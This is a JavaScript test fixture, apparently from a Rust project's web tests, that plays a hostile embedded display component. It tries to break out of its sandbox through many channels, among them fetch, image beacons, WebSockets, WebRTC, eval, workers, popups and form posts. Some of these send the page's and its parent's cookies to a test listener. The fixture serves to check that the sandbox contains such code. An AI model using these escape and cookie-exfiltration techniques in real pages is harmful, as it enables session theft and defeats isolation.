// A hostile display component (tests/tests/web.rs): every way out it
// knows, each in its own try; then it tells the page it ran (height 777),
// then tries to navigate away.
var L = 'http://127.0.0.2:LISTEN/';
var tried = [];
function attempt(name, f) {
  try { f(); tried.push(name + ':done'); } catch (e) { tried.push(name + ':' + e.name); }
}
attempt('fetch-api', function () { fetch('/api/hostile', { method: 'POST', body: '{}' }).catch(function () {}); });
attempt('fetch-view', function () { fetch('/view/hostile').catch(function () {}); });
attempt('fetch-out', function () { fetch(L + 'fetch').catch(function () {}); });
attempt('image', function () { new Image().src = L + 'image'; });
attempt('beacon', function () { navigator.sendBeacon(L + 'beacon', 'x'); });
attempt('xhr', function () { var x = new XMLHttpRequest(); x.open('GET', L + 'xhr'); x.send(); });
attempt('websocket', function () { new WebSocket('ws://127.0.0.2:LISTEN/ws'); });
attempt('eventsource', function () { new EventSource(L + 'sse'); });
attempt('cookie', function () { var c = document.cookie; new Image().src = L + 'cookie?' + c; });
attempt('storage', function () { localStorage.setItem('x', '1'); });
attempt('parent-storage', function () { new Image().src = L + 'parent?' + parent.localStorage.length; });
attempt('parent-document', function () { new Image().src = L + 'parentdoc?' + parent.document.cookie; });
attempt('webrtc', function () {
  var pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:UDP' }] });
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
});
attempt('webrtc-webkit', function () {
  var pc = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:UDP' }] });
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
});
attempt('webrtc-nested', function () {
  var f = document.createElement('iframe');
  document.body.appendChild(f);
  var PC = f.contentWindow.RTCPeerConnection;
  var pc = new PC({ iceServers: [{ urls: 'stun:127.0.0.2:UDP' }] });
  pc.createDataChannel('x');
  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
});
attempt('webrtc-srcdoc', function () {
  var f = document.createElement('iframe');
  f.srcdoc = "<script>var pc = new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.2:UDP'}]}); pc.createDataChannel('x'); pc.createOffer().then(function(o){return pc.setLocalDescription(o);});<\/script>";
  document.body.appendChild(f);
});
attempt('eval', function () { eval("fetch('" + L + "eval')"); });
attempt('function', function () { new Function("fetch('" + L + "function')")(); });
attempt('worker', function () {
  new Worker(URL.createObjectURL(new Blob(["fetch('" + L + "worker')"], { type: 'text/javascript' })));
});
attempt('window-open', function () { window.open(L + 'popup'); });
attempt('top-navigation', function () { top.location = L + 'top'; });
attempt('form', function () {
  var form = document.createElement('form');
  form.action = L + 'form';
  form.method = 'POST';
  document.body.appendChild(form);
  form.submit();
});
document.getElementById('out').textContent = tried.join(' ');
console.log('hostile component: ' + tried.join(' '));
mtos.resize(777);
setTimeout(function () { location.href = "/hostile-navigation"; }, 2500);
setTimeout(function () { location.href = L + "navigation"; }, 3000);
